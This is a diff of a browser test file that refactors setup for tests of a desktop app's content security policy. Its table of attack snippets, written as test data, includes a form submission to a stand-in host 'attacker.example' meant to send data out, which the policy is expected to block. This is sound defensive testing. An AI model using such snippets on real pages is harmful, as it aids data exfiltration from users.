@@ -1,16 +1,12 @@
 /** The content policy at work in a real browser: what it stops, and that under the desktop's one every screen runs. */
 import type { Browser, Page } from 'playwright-core'
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { beforeAll, expect, test } from 'vitest'
 import type { Handlers } from '../../src-main/contract/procedures.ts'
 import { pageHeaders, readRendererFile } from '../../src-main/hosts/renderer-files.ts'
 import { rendererDirectory } from '../../src-main/hosts/local-app.ts'
 import { serve } from '../../src-main/hosts/serve.ts'
-import { launchChromium } from './chromium.ts'
-import { openPage, serveApp, watchProblems, type ServedApp, type TestPage } from './page.ts'
-
-const launched = await launchChromium()
-const { browser } = launched
-if (browser === null) console.warn(`skipped: the content policy in a browser: ${launched.reason}`)
+import { describeInBrowser } from './in-browser.ts'
+import { watchProblems, type TestPage } from './page.ts'
 
 /** Each tries to run or load what is not the page's own, and must not get that far. */
 const attacks: Readonly<Record<string, string>> = {
@@ -33,14 +29,11 @@ const attacks: Readonly<Record<string, string>> = {
     form.action = 'https://attacker.example/'; document.body.append(form); form.submit()`,
 }
 
-describe.skipIf(browser === null)('the content policy', () => {
-  let app: ServedApp
+describeInBrowser('the content policy', {}, ({ app, browser, open }) => {
   let page: Page
 
   beforeAll(async () => {
-    app = await serveApp()
-    if (browser === null) return
-    page = (await openPage(browser, app)).page
+    page = (await open()).page
     await page.getByRole('heading', { level: 1 }).waitFor()
     await page.evaluate(() => {
       const breaches: string[] = []
@@ -49,10 +42,6 @@ describe.skipIf(browser === null)('the content policy', () => {
         breaches.push(effectiveDirective),
       )
     })
-  })
-  afterAll(async () => {
-    await browser?.close()
-    await app?.close()
   })
 
   test.each(Object.entries(attacks))('stops %s', async (_name, attack) => {
@@ -64,14 +53,13 @@ describe.skipIf(browser === null)('the content policy', () => {
   })
 
   test('every screen runs under the desktop’s policy, which lets the page connect nowhere', async () => {
-    if (browser === null) return
-    const { page: desktop, problems } = await openDesktopPage(browser, app.handlers)
+    const { page: desktop, problems } = await openDesktopPage(browser(), app().handlers)
     for (const name of ['Chat', 'Teach', 'Personalize', 'Assistants', 'Models', 'Settings']) {
       const screens = desktop.getByRole('navigation', { name: 'Screens' })
       await screens.getByRole('link', { name, exact: true }).click()
       await desktop.getByRole('heading', { level: 1 }).waitFor()
     }
-    await desktop.getByText(app.dataDirectory).waitFor()
+    await desktop.getByText(app().dataDirectory).waitFor()
     expect(problems).toEqual([])
   })
 })
